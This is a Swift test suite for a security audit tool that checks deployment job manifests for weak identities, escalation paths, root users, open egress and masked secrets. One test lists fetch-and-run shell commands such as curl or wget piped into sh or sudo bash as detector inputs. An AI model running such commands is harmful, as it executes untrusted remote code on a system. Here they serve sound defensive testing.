import JobsCore
import JobsManifest
import Testing

@testable import JobsAudit

@Suite("Rules over jobs")
struct ManifestRulesTests {
  private static let identity = "report@acme.iam.gserviceaccount.com"

  /// A job of Cloud Run that no rule finds anything in.
  private static func job(_ name: String = "a", _ change: (inout Job) -> Void = { _ in }) -> Job {
    var job = Job(name: name)
    job.env = "prod"
    job.target = Target(kind: .cloudRun, project: "acme", region: "europe-west1")
    job.identity = identity
    job.run.image = "europe-docker.pkg.dev/acme/jobs/report@sha256:\(String(repeating: "0a", count: 32))"
    var network = Network()
    network.egress = "all-traffic"
    job.network = network
    change(&job)
    return job
  }

  private static func codes(_ jobs: [Job], powers: [String: Finding] = [:]) -> [String] {
    ManifestRules.check(jobs, ManifestContext(jobs, protected: ["prod"], powers: powers)).map(\.rule.code)
  }

  @Test("a job that is given no more than it needs has no findings")
  func nothing() { #expect(Self.codes([Self.job()]).isEmpty) }

  @Test("no identity, or the default one, is found on Cloud Run alone")
  func identities() {
    #expect(Self.codes([Self.job { $0.identity = nil }]) == ["JA101"])
    #expect(Self.codes([Self.job { $0.identity = "1-compute@developer.gserviceaccount.com" }]) == ["JA101"])
    #expect(
      Self.codes([
        Self.job {
          $0.identity = nil; $0.target.kind = .lambda
        }
      ]).isEmpty)
    #expect(Self.codes([Self.job("a"), Self.job("b")]) == ["JA102", "JA102"])
    #expect(Self.codes([Self.job("a"), Self.job("a") { $0.env = "dev" }]).isEmpty, "the same job of two environments")
  }

  @Test("what a job's identity can reach is found with its path, severity and verdict")
  func powers() throws {
    var path = Finding(
      EscalationRule.rule, "", resource: "projects/acme", verdict: .possible, severity: .high, at: .start(of: ""))
    path.path = [Finding.Hop(from: "x", to: "administrator of projects/acme", by: "b", policy: "p", statement: "s")]
    path.missing = ["something"]
    let jobs = [Self.job()]
    let found = ManifestRules.check(jobs, ManifestContext(jobs, protected: [], powers: [Self.identity: path]))
    let finding = try #require(found.first { $0.rule.code == "JA103" })
    #expect(finding.severity == .high && finding.verdict == .possible && finding.missing == ["something"])
    #expect(finding.message == "job 'a' runs as '\(Self.identity)', who can reach 'administrator of projects/acme'")
    #expect(finding.job == "-/prod/a" && finding.path.count == 1)
    #expect(Self.codes(jobs, powers: ["other": path]).isEmpty)
  }

  @Test("tags and open ways out are found in protected environments alone")
  func protected() {
    let loose = Self.job {
      $0.run.image = "europe-docker.pkg.dev/acme/jobs/report:1"; $0.network = nil
    }
    #expect(Self.codes([loose]) == ["JA104", "JA105"])
    #expect(ManifestRules.check([loose], ManifestContext([loose], protected: ["live"])).isEmpty)
  }

  @Test("root is found on hosts, by either key")
  func root() {
    func host(_ change: (inout Job) -> Void) -> Job {
      Self.job {
        $0.target = Target(kind: .host); $0.identity = nil; change(&$0)
      }
    }
    #expect(Self.codes([host { $0.run.user = "root" }]) == ["JA106"])
    #expect(Self.codes([host { $0.identity = "root" }]) == ["JA106"])
    #expect(Self.codes([host { $0.run.user = "backup" }]).isEmpty)
  }

  @Test(
    "what is fetched and run at once is found",
    arguments: [
      ("curl -fsSL https://a.example/x | sh", true), ("wget -qO- https://a.example | sudo -E bash -s -- a", true),
      ("sh -c \"$(curl -fsSL https://a.example)\"", true), ("bash <(curl -s https://a.example)", true),
      ("curl https://a.example | tee log | /bin/bash", true), ("curl https://a.example | FOO=1 python3 -", true),
      ("curl https://a.example | jq .", false), ("curl https://a.example > x; sh y", false), ("cat x | sh", false),
      ("echo curl-like | sh", false), ("curl -d \"$(date)\" https://a.example", false), ("sh backup.sh", false),
      ("STATE=$(curl https://a.example/state); echo $STATE", false),
    ])
  func pipes(text: String, isFound: Bool) {
    #expect(PipedShell.isPiped(text) == isFound)
    #expect(Self.codes([Self.job { $0.run.setShell(text) }]) == (isFound ? ["JA107"] : []))
  }

  @Test("a secret that was masked is found, and its variable named")
  func secrets() {
    let job = Self.job { $0.run.env = [Pair("LEVEL", "info"), Pair("PASSWORD", "***")] }
    let found = ManifestRules.check([job], ManifestContext([job], protected: []))
    #expect(found.map(\.message) == ["job 'a' has a secret in 'PASSWORD'"])
    #expect(Self.codes([Self.job { $0.run.args = ["--token=***"] }]) == ["JA108"])
  }
}
